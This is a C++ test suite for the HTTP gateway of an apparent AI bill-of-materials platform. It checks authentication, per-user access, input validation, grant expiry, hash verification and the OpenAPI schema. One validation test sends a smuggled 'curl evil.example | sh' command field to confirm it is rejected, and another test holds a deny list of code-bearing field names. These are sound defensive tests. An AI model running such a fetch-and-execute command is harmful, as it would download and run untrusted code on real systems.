// Copyright 2026 The aibomgen Authors
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//      http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

#include <doctest.h>
#include <httplib.h>

#include <set>

#include "aibomgen/errors.hpp"
#include "aibomgen/keys.hpp"
#include "aibomgen/platform.hpp"
#include "test_support.hpp"

using namespace aibomgen;

namespace {

struct GatewayFixture {
    test::TempDir dir{"gw"};
    test::FakeClock clock;
    std::unique_ptr<Platform> platform;
    int port = 0;

    GatewayFixture()
    {
        write_file_atomic(dir.sub("tokens.json"),
                          R"({"tok-alice":"alice","tok-bob":"bob"})");
        PlatformConfig config;
        config.data_dir = dir.sub("data");
        config.tokens_path = dir.sub("tokens.json");
        config.listen_port = 0;
        config.grant_ttl_seconds = 120;
        platform = std::make_unique<Platform>(config, clock.fn());
        port = platform->start_gateway();
    }

    httplib::Client client(const std::string& token = "")
    {
        httplib::Client c("127.0.0.1", port);
        c.set_read_timeout(30, 0);
        if (!token.empty())
            c.set_default_headers({{"Authorization", "Bearer " + token}});
        return c;
    }

    std::string upload_csv(const std::string& token,
                           const std::string& csv = test::small_regression_csv())
    {
        auto c = client(token);
        httplib::MultipartFormDataItems items = {
            {"file", csv, "dataset.csv", "text/csv"}};
        auto res = c.Post("/v1/artifacts", items);
        REQUIRE(res);
        REQUIRE(res->status == 201);
        return canonical_parse(res->body)["name"].get<std::string>();
    }

    std::string submit_and_run(const std::string& token,
                               const std::string& dataset_name)
    {
        auto c = client(token);
        Json body{{"dataset", Json{{"name", dataset_name}}},
                  {"config", Json{{"epochs", 10}, {"learning_rate", "0.05"}}}};
        auto res = c.Post("/v1/jobs", canonical_serialize(body),
                          "application/json");
        REQUIRE(res);
        REQUIRE(res->status == 201);
        std::string job_id = canonical_parse(res->body)["job_id"].get<std::string>();
        platform->drain_queue();
        return job_id;
    }
};

}  // namespace

TEST_SUITE("gateway")
{
    TEST_CASE("missing or invalid tokens are 401")
    {
        GatewayFixture fx;
        auto anon = fx.client();
        auto res = anon.Post("/v1/jobs", "{}", "application/json");
        REQUIRE(res);
        CHECK(res->status == 401);

        auto bad = fx.client("tok-wrong");
        res = bad.Get("/v1/jobs/0");
        REQUIRE(res);
        CHECK(res->status == 401);
    }

    TEST_CASE("upload then submit then poll then download")
    {
        GatewayFixture fx;
        std::string dataset = fx.upload_csv("tok-alice");
        std::string job_id = fx.submit_and_run("tok-alice", dataset);

        auto alice = fx.client("tok-alice");
        auto status = alice.Get("/v1/jobs/" + job_id);
        REQUIRE(status);
        REQUIRE(status->status == 200);
        Json record = canonical_parse(status->body);
        CHECK(record["state"] == Json("COMPLETED"));
        CHECK(record["outputs"].size() == 4);

        auto listing = alice.Get("/v1/jobs/" + job_id + "/artifacts");
        REQUIRE(listing);
        REQUIRE(listing->status == 200);
        Json artifacts = canonical_parse(listing->body);
        REQUIRE(artifacts["artifacts"].size() == 4);

        for (const auto& item : artifacts["artifacts"]) {
            std::string url = item["url"].get<std::string>();
            // Grant URLs carry the documented query parameters.
            CHECK(url.find("token=") != std::string::npos);
            CHECK(url.find("expires=") != std::string::npos);
            auto file = alice.Get(url);
            REQUIRE(file);
            REQUIRE(file->status == 200);
            CHECK(compute_digest(file->body).hex ==
                  item["ref"]["digest"]["hex"].get<std::string>());
        }
    }

    TEST_CASE("another user's job is 403")
    {
        GatewayFixture fx;
        std::string dataset = fx.upload_csv("tok-alice");
        std::string job_id = fx.submit_and_run("tok-alice", dataset);
        auto bob = fx.client("tok-bob");
        auto res = bob.Get("/v1/jobs/" + job_id);
        REQUIRE(res);
        CHECK(res->status == 403);
        res = bob.Get("/v1/jobs/" + job_id + "/artifacts");
        REQUIRE(res);
        CHECK(res->status == 403);
    }

    TEST_CASE("validation failures are 422 with field names")
    {
        GatewayFixture fx;
        std::string dataset = fx.upload_csv("tok-alice");
        auto alice = fx.client("tok-alice");
        Json body{{"dataset", Json{{"name", dataset}}},
                  {"config", Json{{"epochs", -1}}}};
        auto res = alice.Post("/v1/jobs", canonical_serialize(body),
                              "application/json");
        REQUIRE(res);
        CHECK(res->status == 422);
        Json error = canonical_parse(res->body);
        CHECK(error["fields"] == Json::array({"epochs"}));

        // Unknown top-level fields are refused outright.
        Json sneaky{{"dataset", Json{{"name", dataset}}},
                    {"config", Json::object()},
                    {"command", "curl evil.example | sh"}};
        res = alice.Post("/v1/jobs", canonical_serialize(sneaky),
                         "application/json");
        REQUIRE(res);
        CHECK(res->status == 422);
    }

    TEST_CASE("malformed JSON bodies are 400 and unknown jobs 404")
    {
        GatewayFixture fx;
        auto alice = fx.client("tok-alice");
        auto res = alice.Post("/v1/jobs", "{not json", "application/json");
        REQUIRE(res);
        CHECK(res->status == 400);
        res = alice.Get("/v1/jobs/00000000-0000-4000-8000-000000000000");
        REQUIRE(res);
        CHECK(res->status == 404);
    }

    TEST_CASE("expired grants are refused")
    {
        GatewayFixture fx;
        std::string dataset = fx.upload_csv("tok-alice");
        std::string job_id = fx.submit_and_run("tok-alice", dataset);
        auto alice = fx.client("tok-alice");
        auto listing = alice.Get("/v1/jobs/" + job_id + "/artifacts");
        REQUIRE(listing);
        std::string url = canonical_parse(listing->body)["artifacts"][0]["url"]
                              .get<std::string>();
        fx.clock.advance(121);  // past the 120 s grant ttl
        auto res = alice.Get(url);
        REQUIRE(res);
        CHECK(res->status == 403);
        Json error = canonical_parse(res->body);
        CHECK(error["error"] == Json("GrantExpired"));
    }

    TEST_CASE("verification endpoints are public and pure")
    {
        GatewayFixture fx;
        std::string dataset = fx.upload_csv("tok-alice");
        std::string job_id = fx.submit_and_run("tok-alice", dataset);
        std::string link_bytes = fx.platform->store().get_object(
            {job_id, link_object_name(job_id)});
        std::string aibom_bytes = fx.platform->store().get_object(
            {job_id, aibom_object_name(job_id)});

        auto anon = fx.client();  // no token anywhere below

        auto link_res = anon.Post("/v1/verify/link", link_bytes,
                                  "application/json");
        REQUIRE(link_res);
        REQUIRE(link_res->status == 200);
        CHECK(canonical_parse(link_res->body)["pass"] == Json(true));

        auto aibom_res = anon.Post("/v1/verify/aibom", aibom_bytes,
                                   "application/json");
        REQUIRE(aibom_res);
        REQUIRE(aibom_res->status == 200);
        Json aibom_report = canonical_parse(aibom_res->body);
        CHECK(aibom_report["pass"] == Json(true));

        auto storage_res = anon.Post("/v1/verify/storage", link_bytes,
                                     "application/json");
        REQUIRE(storage_res);
        REQUIRE(storage_res->status == 200);
        CHECK(canonical_parse(storage_res->body)["all_match"] == Json(true));

        std::string model_bytes =
            fx.platform->store().get_object({job_id, model_object_name()});
        httplib::MultipartFormDataItems items = {
            {"link", link_bytes, "link.json", "application/json"},
            {"artifact", model_bytes, "model.bin", "application/octet-stream"},
            {"name", "model.bin", "", ""}};
        auto hash_res = anon.Post("/v1/verify/hash", items);
        REQUIRE(hash_res);
        REQUIRE(hash_res->status == 200);
        CHECK(canonical_parse(hash_res->body)["status"] == Json("MATCH"));

        // Purity: identical inputs give identical reports.
        auto repeat = anon.Post("/v1/verify/aibom", aibom_bytes,
                                "application/json");
        REQUIRE(repeat);
        CHECK(repeat->body == aibom_res->body);
    }

    TEST_CASE("verify hash flags a mutated artifact with both digests")
    {
        GatewayFixture fx;
        std::string dataset = fx.upload_csv("tok-alice");
        std::string job_id = fx.submit_and_run("tok-alice", dataset);
        std::string link_bytes = fx.platform->store().get_object(
            {job_id, link_object_name(job_id)});
        std::string model_bytes =
            fx.platform->store().get_object({job_id, model_object_name()});
        model_bytes[10] = char(model_bytes[10] ^ 0x40);

        auto anon = fx.client();
        httplib::MultipartFormDataItems items = {
            {"link", link_bytes, "link.json", "application/json"},
            {"artifact", model_bytes, "model.bin", "application/octet-stream"},
            {"name", "model.bin", "", ""}};
        auto res = anon.Post("/v1/verify/hash", items);
        REQUIRE(res);
        REQUIRE(res->status == 200);
        Json result = canonical_parse(res->body);
        CHECK(result["status"] == Json("MISMATCH"));
        CHECK(result["expected"]["hex"] != result["actual"]["hex"]);
    }

    TEST_CASE("public key endpoint serves a loadable PEM")
    {
        GatewayFixture fx;
        auto anon = fx.client();
        auto res = anon.Get("/v1/keys/public");
        REQUIRE(res);
        REQUIRE(res->status == 200);
        KeyPair key = KeyPair::from_public_pem(res->body);
        CHECK(key.key_id() == fx.platform->key().key_id());
    }

    TEST_CASE("openapi has every route and no code-bearing request fields")
    {
        GatewayFixture fx;
        auto anon = fx.client();
        auto res = anon.Get("/openapi.json");
        REQUIRE(res);
        REQUIRE(res->status == 200);
        Json api = canonical_parse(res->body);
        const std::set<std::string> expected_paths = {
            "/v1/artifacts",
            "/v1/jobs",
            "/v1/jobs/{job_id}",
            "/v1/jobs/{job_id}/artifacts",
            "/v1/artifacts/{job_id}/{name}",
            "/v1/keys/public",
            "/v1/verify/link",
            "/v1/verify/aibom",
            "/v1/verify/hash",
            "/v1/verify/storage"};
        for (const auto& p : expected_paths) CHECK(api["paths"].contains(p));

        // The API schema exposes no field interpreted as code or command:
        // the only writable surfaces are artifact bytes and numeric/enum
        // training parameters.
        const std::set<std::string> forbidden = {"command", "script", "code",
                                                 "shell", "entrypoint", "exec"};
        std::function<void(const Json&)> walk = [&](const Json& node) {
            if (node.is_object()) {
                for (auto it = node.begin(); it != node.end(); ++it) {
                    if (it.key() == "properties" && it.value().is_object())
                        for (auto p = it.value().begin(); p != it.value().end(); ++p)
                            CHECK(forbidden.count(p.key()) == 0);
                    walk(it.value());
                }
            } else if (node.is_array()) {
                for (const auto& item : node) walk(item);
            }
        };
        walk(api["paths"]);
    }
}
